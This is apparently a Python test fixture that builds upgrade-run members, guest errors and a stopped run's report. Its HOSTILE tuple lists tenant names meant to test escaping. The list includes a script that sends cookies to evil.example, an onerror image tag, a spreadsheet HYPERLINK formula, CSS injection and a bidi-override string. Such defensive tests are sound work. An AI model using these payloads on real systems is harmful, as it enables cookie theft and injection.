# SPDX-License-Identifier: Apache-2.0
"""A run with members of every kind, and its report."""

import datetime
import itertools

from trove_upgrade.bridge import guest_facts
from trove_upgrade.bridge.reach import errors
from trove_upgrade.bridge.report import building
from trove_upgrade.bridge.report.model import Openings, OpenPart
from trove_upgrade.bridge.steps.verify import NotVerified
from trove_upgrade.domain.bridge_runs import (
    STEPS,
    Member,
    MemberFacts,
    MemberState,
    MemberStep,
    MemberStepRun,
    Nic,
    Run,
    RunScope,
    RunState,
    StepEnd,
    left_out_cause,
)
from trove_upgrade.domain.inventory import Obstacle
from trove_upgrade.domain.network import GroupQuotaExhausted
from trove_upgrade.domain.pace import Hosts, Pace, Stop, StopRule, Turn, Wait
from trove_upgrade.domain.verified import Outcome as LookOutcome
from trove_upgrade.domain.verified import Verified

RUN_ID = '7b1d7d2e-5c0a-4a55-9a52-3a3c3f6f1c07'
BEGUN = datetime.datetime(2026, 3, 7, 22, 0, tzinfo=datetime.UTC)
NOW = BEGUN + datetime.timedelta(hours=2, minutes=13)
#: Names that tenants may give.
HOSTILE = (
    '<script>fetch("//evil.example/" + document.cookie)</script>',
    '"><img src=//evil.example/x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example","click")',
    'x' * 255,
    'مخزن البيانات للحسابات',
    'abc\u202efdp.exe\u2066\x1b[31m\nsecond line\t{{ 7 * 7 }}',
    '</style><style>*{display:none}</style>',
)
_NAMES = ('orders', 'billing', 'wiki', 'shop-production', 'analytics', 'auth')
WHERE = {'address': '10.60.0.17', 'port': 22, 'route': 'through qdhcp-1f on network-1'}


def instance_id(number):
    return f'00000000-0000-4000-8000-{number:012d}'


def a_member(number, state=MemberState.COMPLETED, **changes):
    return Member(
        run_id=RUN_ID,
        instance_id=instance_id(number),
        project_id=f'{number % 4:032x}',
        server_id=f'10000000-0000-4000-8000-{number:012d}',
        **{
            'name': f'{_NAMES[number % len(_NAMES)]}-{number}',
            'state': state,
            'step': MemberStep.VERIFY,
            'is_undoing': False,
            'generation': 1,
            'wave': 0 if number == 0 else 1 + number // 12,
            'hosts': Hosts(node=f'network-{number % 3}', hypervisor=f'compute-{number % 7}'),
            **changes,
        },
    )


def steps_to(last, *, end=StepEnd.DONE, began=BEGUN, message='As it should be.'):
    """Steps up to `last`, each 17.5 s after the other; the last one has this end."""
    found = []
    for number, step in enumerate(STEPS[: STEPS.index(last) + 1]):
        start = began + datetime.timedelta(seconds=20 * number)
        is_last = step is last
        found.append(
            MemberStepRun(
                step=step,
                started_at=start,
                ended_at=None if is_last and end is None else start + datetime.timedelta(0, 17.5),
                end=end if is_last else StepEnd.DONE,
                message=message if is_last and end is not None else None,
            )
        )
    return tuple(found)


def completed(number, **changes):
    began = BEGUN + datetime.timedelta(minutes=3 * number)
    facts = MemberFacts(
        address='10.60.0.17',
        route='through qdhcp-1f on network-1',
        bundle='sha',
        upgrade_id=instance_id(900 + number),
        nics=(Nic(port_id='30000000-0000-4000-8000-000000000001', security_groups=('default',)),),
        verified=(
            Verified.ok('version', '11.8.6 answers'),
            Verified('backups', LookOutcome.NOT_OFFERED, 'no backup is shown'),
        ),
    )
    return a_member(
        number,
        **{
            'steps': steps_to(MemberStep.VERIFY, began=began),
            'ended_at': began + datetime.timedelta(seconds=140),
            'facts': facts,
            **changes,
        },
    )


def failed(number, error, step=MemberStep.REACH, **changes):
    return a_member(
        number,
        MemberState.FAILED,
        **{
            'step': step,
            'is_undoing': True,
            'error_code': error.code,
            'cause': error.message,
            'steps': steps_to(step, end=StepEnd.FAILED, message=error.message),
            'ended_at': BEGUN + datetime.timedelta(minutes=9),
            'facts': MemberFacts(address='10.60.0.17', route=WHERE['route']),
            **changes,
        },
    )


def left_out(number, obstacle):
    return a_member(
        number,
        MemberState.LEFT_OUT,
        step=MemberStep.OPEN,
        wave=None,
        hosts=Hosts(),
        generation=0,
        error_code=str(obstacle),
        cause=left_out_cause(obstacle),
        ended_at=BEGUN,
    )


def waiting(number, **changes):
    return a_member(
        number, MemberState.PENDING, **{'step': MemberStep.OPEN, 'generation': 0, **changes}
    )


def running(number, step=MemberStep.PUSH, **changes):
    return a_member(
        number,
        MemberState.RUNNING,
        **{
            'step': step,
            'steps': steps_to(step, end=None, began=NOW - datetime.timedelta(minutes=2)),
            'owner': 'bridge-1:42:0',
            'lease_until': NOW + datetime.timedelta(minutes=1),
            **changes,
        },
    )


def errors_of_guests():
    where = WHERE
    return (
        errors.ConnectionRefused(**where, found='Connection refused'),
        errors.HostKeyChanged(server_id='s-1', pinned='SHA256:abc', found='SHA256:xyz'),
        errors.LoginRefused(user='trove', server_id='s-2', route=where['route'], found='publickey'),
        guest_facts.GuestFull(
            found='its root disk has 12 MB free, and 390 MB are needed',
            advice='Make room on its root disk',
        ),
        guest_facts.LibcTooOld(
            found='its C library is 2.12 (CentOS 6.10), and the bundle needs 2.31 or newer',
            advice='Move its data by a backup into an instance of a newer version',
        ),
        GroupQuotaExhausted(project_id='p-1', found='Quota exceeded for resources'),
        NotVerified(instance_id='i-1', found='addresses: 10.0.0.9 is not 10.0.0.7.'),
    )


def members_of_every_kind():
    """About forty, with hostile names among them."""
    numbers = itertools.count()
    found = [completed(next(numbers)) for _ in range(9)]
    found += [failed(next(numbers), error) for error in errors_of_guests()]
    found += [left_out(next(numbers), obstacle) for obstacle in Obstacle]
    found += [waiting(next(numbers)) for _ in range(4)]
    found += [running(next(numbers), step) for step in (MemberStep.PUSH, MemberStep.UPGRADE)]
    found.append(
        running(
            next(numbers),
            MemberStep.PROVE,
            is_undoing=True,
            error_code=errors.ConnectionLost.code,
            cause='The connection was lost.',
            facts=MemberFacts(bundle='sha', not_removed='no answer.'),
            owner=None,
            lease_until=None,
        )
    )
    found.append(
        a_member(
            next(numbers),
            MemberState.ABORTED,
            step=MemberStep.UPGRADE,
            error_code='BRIDGE_RUN_ABORTED',
            cause='An operator aborted it.',
            facts=MemberFacts(asked_after='', upgrade_id=instance_id(999)),
            ended_at=NOW,
        )
    )
    named = [completed(next(numbers), name=name) for name in HOSTILE[:-1]]
    named.append(failed(next(numbers), errors_of_guests()[0], name=HOSTILE[-1]))
    return [*found, *named]


def a_run(members=(), state=RunState.RUNNING, **changes):
    counts = {one.state: 0 for one in members}
    for one in members:
        counts[one.state] += 1
    return Run(
        id=RUN_ID,
        state=state,
        created_at=BEGUN,
        updated_at=NOW,
        members=counts,
        **{
            'scope': RunScope.UPGRADE,
            'ended_at': None,
            'pace': Pace(stop=StopRule(count=5, percent=5)),
            **changes,
        },
    )


def a_turn(members, stop=None, wait=Wait.WAVE):
    """Those without an owner that have not ended wait."""
    going = {MemberState.PENDING, MemberState.RUNNING}
    waits = {one.instance_id: wait for one in members if one.state in going and one.owner is None}
    failed = sum(one.state is MemberState.FAILED or one.is_undoing for one in members)
    return Turn(takeable=(), waits=waits, stop=stop, failed=failed, members=len(members))


def an_opening():
    return OpenPart(
        verdict='LAPSED',
        is_harmless=False,
        group_id='20000000-0000-4000-8000-000000000001',
        opening_id=instance_id(1),
        instance_id=instance_id(32),
        port_ids=('30000000-0000-4000-8000-000000000001',),
        sources=('10.60.0.2/32',),
        lease_until=NOW,
        remarks=('its name or description was changed',),
    )


CLEAN = Openings(is_clean=True)


def report_of(members, run=None, turn=None, openings=CLEAN):
    return building.build(
        run or a_run(members), members, turn or a_turn(members), openings, made_at=NOW
    )


def report_of_every_kind():
    """A run that has stopped, with something open."""
    members = members_of_every_kind()
    turn = a_turn(members, Stop.TOO_MANY_FAILED, Wait.STOPPED)
    openings = Openings(found=(an_opening(),), is_clean=False)
    return report_of(members, a_run(members, RunState.STOPPED), turn, openings)
